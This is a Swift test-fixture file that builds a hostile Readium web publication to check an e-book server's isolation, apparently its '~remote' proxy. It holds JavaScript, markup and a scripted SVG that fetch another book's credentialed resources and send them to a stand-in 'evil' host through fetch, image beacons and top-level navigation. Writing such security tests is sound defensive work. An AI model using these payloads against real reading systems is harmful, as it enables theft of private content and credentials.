import Foundation
import TestSupport

/// The web publication variant of ``HostilePublications``: a packaged Readium Web Publication
/// (`.webpub`) whose manifest declares its scripted resources (`"properties": {"contains":
/// ["js"]}`, RWPM's form of EPUB's `properties="scripted"`): an HTML chapter with an inline
/// script, an external script listed in `resources` and a scripted SVG. Beside the EPUB's
/// attacks, it goes for a web publication's own weak spot — the `~remote` proxy, which adds the
/// `--header` credentials of another served book's host.
extension HostilePublications {
    /// What the chapter's script also tries: another remote book's credentialed resources,
    /// through that book's origin, through this book's own proxy, and straight from its host.
    static func webScript(evil: String, privateBook: String) -> String {
        let host = privateBook.dropFirst("http://".count)
        return """
            (function () {
              function get(url) {
                try { const request = new XMLHttpRequest(); request.open('GET', url, false); request.send();
                      return request.status + ':' + request.responseText.slice(0, 300); } catch (error) { return 'blocked'; }
              }
              document.documentElement.setAttribute('data-hostile-ran', 'yes');
              const loot = [get('../../3/~remote/http/\(host)/private/c1.html'), get('../../3/manifest.json'),
                            get('../~remote/http/\(host)/private/c1.html'), get('\(privateBook)/private/c1.html')];
              const data = encodeURIComponent(loot.join('|'));
              try { fetch('\(evil)/web-fetch?d=' + data, { mode: 'no-cors' }); } catch (error) { /* blocked */ }
              try { new Image().src = '\(evil)/web-image?d=' + data; } catch (error) { /* blocked */ }
              try { top.location.href = '\(evil)/web-top?d=' + data; } catch (error) { /* blocked */ }
            })();
            """
    }

    /// Markup alone against the other book's credentialed resources, and a scripted SVG.
    static func webStaticBody(evil: String, privateBook: String) -> String {
        let host = privateBook.dropFirst("http://".count)
        return """
            <img src="../~remote/http/\(host)/private/own-proxy.png" alt="">
            <img src="\(privateBook)/private/direct.png" alt="">
            <iframe src="../../3/~remote/http/\(host)/private/c1.html"></iframe>
            <iframe src="hostile.svg"></iframe>
            <embed src="hostile.svg" type="image/svg+xml">
            """
    }

    /// A scripted SVG document: run on its own (framed), its script would send to `evil`.
    static func svg(evil: String) -> String {
        """
        <svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">
        <script>document.documentElement.setAttribute('data-hostile-ran', 'yes');
        fetch('\(evil)/svg-fetch', { mode: 'no-cors' });</script>
        <image href="\(evil)/svg-image.png" width="10" height="10"/></svg>
        """
    }

    /// A `.webpub` whose one reading-order item is `html/c1.html` (the same depth as the EPUB's
    /// chapter, so that the EPUB script's relative paths reach the same routes), with `head`
    /// and `body`, its external script `html/hostile.js` and `html/hostile.svg`.
    static func webpub(head: String, body: String, externalScript: String, svg: String, to path: String) throws {
        let scripted: [String: Any] = ["contains": ["js"]]
        let manifest: [String: Any] = [
            "@context": "https://readium.org/webpub-manifest/context.jsonld",
            "metadata": ["@type": "http://schema.org/Book", "title": "Hostile web publication",
                         "identifier": "urn:test:\(UUID().uuidString)", "language": "en"],
            "links": [["rel": "self", "href": "manifest.json", "type": "application/webpub+json"]],
            "readingOrder": [["href": "html/c1.html", "type": "text/html", "title": "Chapter 1", "properties": scripted]],
            "resources": [["href": "html/hostile.js", "type": "application/javascript"],
                          ["href": "html/hostile.svg", "type": "image/svg+xml", "properties": scripted]],
        ]
        let chapter = """
            <!DOCTYPE html>
            <html><head><meta charset="utf-8"><title>Chapter 1</title>\(head)<script src="hostile.js"></script></head>
            <body>\(body)</body></html>
            """
        try ZipBuilder.write([ZipBuilder.Entry("manifest.json", try JSONSerialization.data(withJSONObject: manifest)),
                              ZipBuilder.Entry("html/c1.html", chapter),
                              ZipBuilder.Entry("html/hostile.js", externalScript),
                              ZipBuilder.Entry("html/hostile.svg", svg)], to: path)
    }

    /// A remote web publication on `privateBook`, whose resources need the `--header` token.
    static func privateRemoteBook(privateBook: String, to path: String) throws {
        let manifest: [String: Any] = [
            "@context": "https://readium.org/webpub-manifest/context.jsonld",
            "metadata": ["title": "A private remote book", "identifier": "urn:test:private"],
            "readingOrder": [["href": privateBook + "/private/c1.html", "type": "text/html"]],
        ]
        try JSONSerialization.data(withJSONObject: manifest).write(to: URL(fileURLWithPath: path))
    }
}
